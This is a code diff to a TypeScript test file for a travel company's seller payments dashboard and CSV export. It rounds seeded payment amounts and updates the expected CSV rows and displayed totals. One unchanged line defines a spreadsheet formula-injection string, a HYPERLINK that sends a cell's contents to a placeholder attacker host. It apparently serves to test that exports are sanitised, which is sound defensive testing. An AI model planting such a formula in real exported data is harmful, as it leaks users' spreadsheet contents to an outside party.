@@ -27,10 +27,11 @@ type Entry = {
 const INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")';
 /**
  * The seed's payments (worker/db/seed-data.ts, dated relative to the day it is laid): bk_w4 paid about ten months
- * ago, bk_w6 paid seven weeks ago and refunded four days later, bk_w7 paid two weeks ago and refunded by the expiry. Refs and days come from the seed's calendar.
+ * ago, bk_w6 paid seven weeks ago and refunded four days later, bk_w7 paid two weeks ago and refunded by the
+ * expiry. Refs and days come from the seed's calendar.
  */
-const W4 = { ref: "", amount: 5_066_788, day: "" };
-const W6 = { ref: "", amount: 955_694, paidDay: "", refundDay: "" };
+const W4 = { ref: "", amount: 5_066_800, day: "" };
+const W6 = { ref: "", amount: 955_700, paidDay: "", refundDay: "" };
 /** bk_w7: paid two weeks ago, left unanswered and refunded by the 48-hour expiry. */
 const W7 = { ref: "" };
 /** A stored instant as a day in India (YYYY-MM-DD) and as the CSV writes it (dd/mm/yyyy). */
@@ -273,8 +274,8 @@ describe("the CSV", () => {
     expect(text.replace(/\r\n/g, "")).not.toContain("\n");
     expect(text.slice(1).split("\r\n")).toEqual([
       '"Date","Type","Booking","Package","Customer","Amount (₹)","Status","Reference"',
-      `${csvDay(W6.paidDay)},"Payment","${W6.ref}","Rishikesh Yoga and Rafting","Asha Verma",9556.94,"Received","pay_seed_bk_w6"`,
-      `${csvDay(W6.refundDay)},"Refund","${W6.ref}","Rishikesh Yoga and Rafting","Asha Verma",-9556.94,"Refunded","rfnd_seed_bk_w6"`,
+      `${csvDay(W6.paidDay)},"Payment","${W6.ref}","Rishikesh Yoga and Rafting","Asha Verma",9557.00,"Received","pay_seed_bk_w6"`,
+      `${csvDay(W6.refundDay)},"Refund","${W6.ref}","Rishikesh Yoga and Rafting","Asha Verma",-9557.00,"Refunded","rfnd_seed_bk_w6"`,
       "",
     ]);
   });
@@ -351,7 +352,7 @@ describe("isolation and roles", () => {
     const html = await res.text();
     expect(html).toContain("<title>Payments · Seller dashboard | Tripbazaar</title>");
     expect(html).toContain(W6.ref);
-    expect(html).toContain("₹9,556.94");
+    expect(html).toContain("₹9,557");
     expect(html).toContain(`href="/seller-dashboard/payments.csv?from=${W6.paidDay}&amp;to=${W6.refundDay}"`);
     expect(html).not.toContain("/api/seller-payments");
     expect(html).toContain("Show the chart&#x27;s figures as a table");
